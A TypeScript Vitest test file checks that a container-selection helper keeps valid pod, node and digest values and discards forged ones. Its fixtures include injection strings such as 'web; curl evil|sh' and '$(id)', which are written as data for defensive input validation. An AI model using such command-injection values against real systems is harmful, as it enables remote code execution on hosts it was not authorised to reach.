import { describe, expect, it } from "vitest";
import type { DossierEntry } from "@/lib/domain/container-dossier";
import { containerChoices } from "@/lib/domain/evidence/container-choices";

const entry = (over: Partial<DossierEntry>): DossierEntry => ({
  id: "0123456789ab",
  kind: "container",
  label: "api",
  pods: ["payments-api-7d9f-abcde"],
  containerNames: ["api"],
  images: [{ repository: "ghcr.io/acme/api", tag: "1.4.2", digest: `sha256:${"ab".repeat(32)}` }],
  nodes: ["ip-10-0-1-12"],
  processes: [],
  files: [],
  connections: [],
  users: [],
  alertCount: 3,
  firstSeen: new Date(0),
  lastSeen: new Date(0),
  probablyGone: false,
  ...over,
});

describe("containerChoices", () => {
  it("offers a container with its pod, node and digest", () => {
    expect(containerChoices([entry({})])).toEqual([
      {
        label: "api in payments-api-7d9f-abcde (0123456789ab)",
        containerId: "0123456789ab",
        podName: "payments-api-7d9f-abcde",
        nodeName: "ip-10-0-1-12",
        imageDigest: `sha256:${"ab".repeat(32)}`,
      },
    ]);
  });

  it("leaves out every value an alert forged, and a container with nothing valid left", () => {
    const forged = entry({
      pods: ["web; curl evil|sh"],
      nodes: ["$(id)"],
      containerNames: ["<b>x</b>"],
      images: [{ repository: "x", tag: null, digest: "sha256:zz" }],
    });
    expect(containerChoices([forged])).toEqual([
      { label: "(0123456789ab)", containerId: "0123456789ab", podName: null, nodeName: null, imageDigest: null },
    ]);
    expect(containerChoices([entry({ id: "not-hex`", pods: ["a b"] })])).toEqual([]);
  });
});
